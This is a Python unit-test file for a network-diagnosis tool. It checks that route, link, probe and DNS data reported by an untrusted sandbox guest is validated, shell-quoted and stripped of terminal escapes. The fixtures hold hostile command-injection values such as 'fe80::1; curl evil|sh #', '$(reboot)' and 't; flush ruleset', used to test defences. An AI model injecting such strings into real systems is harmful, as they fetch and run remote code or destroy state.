"""A guest that lies to `explain`: into commands of root, for tracebacks, and for probes."""

import copy
from pathlib import Path as File
from typing import Any

import pytest

from tapwright.cli.explain import lines
from tapwright.diagnosis import collecting, explaining, judging, probes, vetting, way
from tapwright.diagnosis.case import Case, Drop, Explanation, Wish
from tapwright.diagnosis.verdicts import interfaces, names, remedies
from tapwright.diagnosis.way import Picture
from tapwright.errors import AgentError
from tapwright.linux import probes as sending
from tapwright.linux.lookup import Entry, Path
from tapwright.linux.nftrace import Step
from tapwright.linux.sightings import Sighting
from tapwright.sandbox import client
from tapwright.state.record import RUNNING
from tapwright.state.registry import Sandbox

pytestmark = pytest.mark.unit

SHELL = "fe80::1; curl evil|sh #"
ZONE = "fd00::%$(reboot)"
KNOWN = {"address": "10.0.0.1", "mac": "02:00:00:00:00:01", "device": 2, "state": "reachable"}
LINK = {
    "index": 2,
    "name": "eth0.5",
    "mac": "02:00:00:00:00:02",
    "mtu": 1500,
    "up": True,
    "running": True,
    "loopback": False,
    "addresses": ["10.0.0.2/24", "fe80::2/64"],
    "settings": {"disable_ipv6": "0", "rp_filter": "1", "arp_ignore": "0", "accept_ra": ""},
}
FACTS: dict[str, Any] = {
    "links": [LINK],
    "routes": [
        Entry("0.0.0.0/0", "unicast", 2, "10.0.0.1", 0, 254)._asdict(),
        Entry("fd00::/64", "blackhole", 0, "", 1024, 254)._asdict(),
    ],
    "neighbours": [KNOWN],
    "listening": [["tcp", "0100007F", 80], ["udp6", "0" * 32, 53]],
    "resolv": {"nameservers": ["10.0.0.1"], "search": ["example.net"], "ndots": 1},
    "settings": {"ipv4/icmp_echo_ignore_all": "0", "ipv6/icmp/echo_ignore_all": ""},
}
PROBE = {
    "name": "echo",
    "outcome": "failed",
    "error": 113,
    "origin": "icmp",
    "size": 84,
    "mtu": 0,
    "reporter": "10.0.0.1",
    "port": 0,
    "macs": ["02:00:00:00:00:01"],
}
ASKED = {
    "server": "10.0.0.1",
    "name": "web.example.net",
    "outcome": "answered",
    "code": 3,
    "error": 0,
    "addresses": ["10.0.0.9"],
}
RESULTS: dict[str, Any] = {
    "target": "10.0.0.1",
    "path": Path("unicast", 2, "10.0.0.1", "10.0.0.2")._asdict(),
    "probes": [PROBE, {**PROBE, "name": "duplicate 10.0.0.2"}],
    "asked": [ASKED],
    "neighbours": [KNOWN],
    "trace": [Step(1, "filter", "DOCKER-USER", "rule", 2**40, -3, "10.0.0.2", family="ip")],
    "seen": [Sighting("icmp-error", False, "10.0.0.1", "10.0.0.2", detail="3/1", about="")],
}
for several in ("trace", "seen"):
    RESULTS[several] = [one._asdict() for one in RESULTS[several]]

READERS = {
    "target": probes.target_of,
    "path": probes.path_of,
    "probes": probes.probes_of,
    "asked": probes.asked_of,
    "neighbours": probes.neighbours_of,
    "trace": probes.steps_of,
    "seen": probes.seen_of,
}


def test_an_honest_answer_stays_as_it_is() -> None:
    assert probes.checked_facts(copy.deepcopy(FACTS)) == FACTS
    assert probes.target_of(RESULTS) == "10.0.0.1"
    assert probes.target_of({}) == probes.target_of({"target": ""}) == ""
    assert probes.path_of(RESULTS) == Path(**RESULTS["path"])
    assert probes.path_of({"path": {}}) is None
    assert list(probes.probes_of(RESULTS)) == ["echo", "duplicate 10.0.0.2"]
    assert probes.asked_of(RESULTS) == [ASKED]
    assert probes.neighbours_of(RESULTS) == [KNOWN]
    assert probes.steps_of(RESULTS) == [Step(**RESULTS["trace"][0])]
    assert probes.seen_of(RESULTS) == [Sighting(**RESULTS["seen"][0])]


@pytest.mark.parametrize(
    ("where", "key", "value"),
    [
        ("routes", "gateway", SHELL),
        ("routes", "gateway", f"{ZONE}"),
        ("routes", "destination", f"{ZONE}/64"),
        ("routes", "destination", "1.x"),
        ("routes", "destination", "10.0.0.0/33"),
        ("routes", "destination", "10.0.0.0/²"),
        ("routes", "destination", "10.0.0.0"),
        ("routes", "kind", "blackhole default; reboot"),
        ("routes", "table", 2**32),
        ("routes", "table", -1),
        ("routes", "table", True),
        ("routes", "metric", "0"),
        ("links", "name", "eth0;reboot"),
        ("links", "name", "-all"),
        ("links", "name", "eth0\n"),
        ("links", "mac", "02:00; reboot"),
        ("links", "addresses", ["10.0.0.2/24; reboot"]),
        ("links", "settings", []),
        ("links", "up", 1),
        ("neighbours", "address", "abc"),
        ("neighbours", "state", "permanent $(reboot)"),
    ],
)
def test_facts_that_are_none_are_refused(where: str, key: str, value: object) -> None:
    facts = copy.deepcopy(FACTS)
    facts[where][0][key] = value
    with pytest.raises(AgentError, match="is not what it should be"):
        probes.checked_facts(facts)


@pytest.mark.parametrize(
    "listening",
    [["tcp"], ["tcp", "0100007F", 65536], ["tcp", "0100 07F", 80], ["t$(x)", "0100007F", 80], 7],
)
def test_sockets_that_are_none_are_refused(listening: object) -> None:
    with pytest.raises(AgentError):
        probes.checked_facts({**FACTS, "listening": [listening]})


@pytest.mark.parametrize(
    ("where", "key", "value"),
    [
        ("path", "gateway", SHELL),
        ("path", "source", "fe80::1%eth0"),
        ("path", "error", 2**31),
        ("path", "device", -1),
        ("path", "kind", "`reboot`"),
        ("probes", "name", "duplicate 10.0.0.2; reboot"),
        ("probes", "error", 2**31),
        ("probes", "error", -1),
        ("probes", "reporter", SHELL),
        ("probes", "macs", ["$(reboot)"]),
        ("probes", "port", 65536),
        ("asked", "code", 10**400),
        ("asked", "name", "web\x1b[2J"),
        ("asked", "addresses", [ZONE]),
        ("neighbours", "mac", "x"),
        ("trace", "table", "t; flush ruleset"),
        ("trace", "chain", "c' ; reboot '"),
        ("trace", "family", "ip $(reboot)"),
        ("seen", "source", SHELL),
        ("seen", "from_mac", "$(reboot)"),
    ],
)
def test_results_that_are_none_are_refused(where: str, key: str, value: object) -> None:
    results = copy.deepcopy(RESULTS)
    one = results[where] if where == "path" else results[where][0]
    one[key] = value
    with pytest.raises(AgentError, match="is not what it should be"):
        READERS[where](results)


@pytest.mark.parametrize("value", ["abc", ZONE, SHELL, 7, None, ["10.0.0.1"], "1.2", "\ud800"])
def test_a_target_that_is_no_address_is_refused(value: object) -> None:
    with pytest.raises(AgentError):
        probes.target_of({"target": value})


@pytest.mark.parametrize("key", sorted(READERS.keys() - {"target"}))
@pytest.mark.parametrize("value", [7, "x", [7], [[]]])
def test_what_is_of_another_shape_is_refused(key: str, value: object) -> None:
    if key == "asked" and isinstance(value, list):
        assert probes.asked_of({key: value}) == []
        return
    with pytest.raises(AgentError):
        READERS[key]({key: value})


def test_what_nobody_asked_for_is_left_out() -> None:
    facts = copy.deepcopy(FACTS)
    facts["routes"][0]["more"] = facts["links"][0]["settings"]["more"] = facts["more"] = "x"
    assert probes.checked_facts(facts) == FACTS
    found = Case("box", Wish("10.9.0.1"), way=way.Way("eth0", ""), target="10.9.0.1")
    found.guest = probes.checked_facts(facts)
    assert judging.judge(found)


def test_a_name_server_that_is_none_is_left_out() -> None:
    """Such a resolv.conf an honest guest may have, too."""
    resolv = {"nameservers": ["x; reboot", "10.0.0.1", "fe80::1%eth0"], "search": [], "ndots": 1}
    assert probes.checked_facts({**FACTS, "resolv": resolv})["resolv"]["nameservers"] == [
        "10.0.0.1"
    ]
    wrong = {**ASKED, "server": "x; reboot", "error": -2}
    assert probes.asked_of({"asked": [wrong, ASKED]}) == [ASKED]


def test_addresses_are_spelled_as_the_kernel_s() -> None:
    assert vetting.address("FD00:0::01") == "fd00::1"
    assert vetting.address("::ffff:192.0.2.1") == "::ffff:192.0.2.1"
    assert vetting.network("fd00:0::/064") == "fd00::/64"


def explained(
    monkeypatch: pytest.MonkeyPatch, wish: Wish, prepared: dict[str, Any], results: dict[str, Any]
) -> tuple[Case, list[str]]:
    """The case after the guest's part, and the addresses that the host has asked."""
    asked: list[str] = []

    class Guest:
        def __init__(self, *_: object) -> None:
            """It runs no program."""

        def __enter__(self) -> "Guest":
            return self

        def __exit__(self, *_: object) -> None:
            """Nothing was begun."""

        def begin(self) -> tuple[dict[str, Any], dict[str, Any]]:
            return probes.checked_facts(FACTS), prepared

        def end(self) -> dict[str, Any]:
            return results

    def run(target: str, *_: object) -> list[Any]:
        asked.append(target)
        return []

    monkeypatch.setattr(probes, "Guest", Guest)
    monkeypatch.setattr(sending, "run", run)
    for name in ("_read_for_target", "_read_after", "_take", "_traced"):
        monkeypatch.setattr(explaining, name, lambda *_: None)
    monkeypatch.setattr(explaining, "_watched", lambda *_: [])
    monkeypatch.setattr(explaining, "_SETTLE_SECONDS", 0)
    nic = way.Way("eth0", "", wanted_routes=[way.Route("0.0.0.0/0", "10.0.0.1")])
    monkeypatch.setattr(explaining, "_read", lambda *_: [nic])
    case = Case("box", wish)
    host: Any = None
    explaining._from_guest(Sandbox("box", RUNNING, File("/nowhere"), None), case, host, b"")
    return case, asked


@pytest.mark.parametrize(
    ("wish", "told", "target", "asked"),
    [
        (Wish("192.0.2.1"), "192.0.2.1", "192.0.2.1", ["192.0.2.1"]),
        (Wish("FD00:0::1"), "fd00::1", "fd00::1", ["fd00::1"]),
        (Wish("192.0.2.1"), "169.254.169.254", "192.0.2.1", ["192.0.2.1"]),
        (Wish("192.0.2.1"), "", "192.0.2.1", ["192.0.2.1"]),
        (Wish(), "10.0.0.1", "10.0.0.1", ["10.0.0.1"]),
        (Wish(), "169.254.169.254", "169.254.169.254", []),
        (Wish("", 22), "", "", []),
        (Wish("web"), "169.254.169.254", "169.254.169.254", []),
        (Wish("web"), "10.0.0.1", "10.0.0.1", []),
    ],
)
def test_the_host_asks_nobody_whom_the_guest_alone_names(
    monkeypatch: pytest.MonkeyPatch, wish: Wish, told: str, target: str, asked: list[str]
) -> None:
    case, found = explained(monkeypatch, wish, {"target": told}, {})
    assert not case.guest_failure
    assert (case.target, found) == (target, asked)


@pytest.mark.parametrize(
    ("prepared", "results"),
    [
        ({"target": "abc"}, {}),
        ({"target": "10.0.0.1", "path": {"kind": "unicast"}}, {}),
        ({"target": "10.0.0.1"}, {"probes": [{**PROBE, "error": 2**31}]}),
        ({"target": "10.0.0.1"}, {"trace": [{"packet": 1}]}),
    ],
)
def test_another_answer_is_a_verdict_in_words(
    monkeypatch: pytest.MonkeyPatch, prepared: dict[str, Any], results: dict[str, Any]
) -> None:
    case, _ = explained(monkeypatch, Wish(), prepared, results)
    verdict = judging.judge(case)
    assert verdict
    assert verdict.hop == "agent"
    assert "is not what it should be" in verdict.why


def test_a_host_that_did_not_ask_is_said_to_have_asked_nowhere() -> None:
    from tests.diagnosis.test_judging import case as whole
    from tests.diagnosis.test_judging import left

    for by_host, evidence in ((None, []), (False, ["the host itself gets no answer"])):
        found = whole()
        left(found)
        found.wish, found.by_host = Wish("web", 80), by_host
        found.wish.udp = False
        verdict = judging.judge(found)
        assert verdict
        assert verdict.hop == "beyond"
        assert [one[: len(some)] for one, some in zip(verdict.evidence, evidence, strict=True)] == (
            evidence
        )
        assert ("--to 198.51.100.2:80" in verdict.advice) == (by_host is None)


def test_names_in_commands_are_words_of_the_shell() -> None:
    drop = Drop("ip", "t", "c $(reboot)", 4)
    assert interfaces._undo(drop) == "nft delete rule ip t 'c $(reboot)' handle 4"
    assert remedies.at_place("/run/a b", "ip link") == "nsenter --net='/run/a b' ip link"


def test_what_a_network_promises_is_in_no_command_where_it_is_no_name() -> None:
    case = Case("box", Wish("web"))
    case.promised = {"nameservers": ["10.0.0.1"], "search": ["example.net"]}
    assert names._resolv_conf(case)
    for key, value in (("nameservers", "1.1.1.1'; reboot"), ("search", "$(reboot)")):
        wrong = Case("box", Wish("web"), promised={**case.promised, key: [value]})
        assert names._resolv_conf(wrong) == []


def test_a_server_of_ipv6_is_named_as_an_option_takes_it() -> None:
    case = Case("box", Wish("web"), way=way.Way("eth0", ""))
    case.asked = [{**ASKED, "server": "fd00::53", "outcome": "silent"}]
    verdict = judging.judge(case)
    assert verdict
    assert "--to [fd00::53]:53 --udp" in verdict.advice


def test_a_terminal_obeys_no_word_of_a_guest() -> None:
    case = Case("box", Wish("web"), guest_failure="\x1b[2J\rall is well")
    from tapwright.errors import shown

    told = map(shown, lines(Explanation("box", "", False, judging.judge(case))))
    assert not any("\x1b" in line or "\r" in line for line in told)


@pytest.mark.parametrize("key", ["mtu", "counter", "table"])
@pytest.mark.parametrize("value", [10**400, -1])
def test_numbers_beyond_the_kernel_s_are_no_answer(
    monkeypatch: pytest.MonkeyPatch, key: str, value: int
) -> None:
    interface: dict[str, Any] = {"mtu": 1500, "counters": {"rx_bytes": 2**64 - 1}}
    route = {"metric": 0, "table": 254}
    said = {"guest": {"interfaces": [interface], "routes": [route]}, "qemu": {}}
    said |= {"guest_failure": "", "qemu_failure": ""}  # type: ignore[dict-item]

    class Client:
        def look(self, seconds: float | None) -> dict[str, Any]:
            return said

    monkeypatch.setattr(client, "of", lambda *_: Client())
    sandbox = Sandbox("box", RUNNING, File("/nowhere"), None)
    picture = Picture("box", RUNNING, 0)
    collecting._ask(sandbox, picture)
    assert picture.guest
    {"mtu": interface, "counter": interface["counters"], "table": route}[key][
        "rx_bytes" if key == "counter" else key
    ] = value
    collecting._ask(sandbox, picture)
    assert not picture.guest
    assert "too large" in picture.guest_failure
